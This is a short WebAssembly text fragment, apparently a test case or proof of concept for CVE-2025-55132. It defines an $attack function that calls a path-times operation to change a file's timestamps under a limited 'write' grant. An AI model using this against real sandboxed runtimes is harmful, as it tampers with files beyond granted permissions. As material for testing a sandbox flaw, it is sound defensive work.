;; Changes the times of a file there.
;; stands for: CVE-2025-55132
;; grant: write
;; path: note or note
(func $attack (result i32) (call $path_times (i32.const 3) (i32.const 1) (i32.const 64) (i32.const $LEN) (i64.const 0) (i64.const 0) (i32.const 10)))
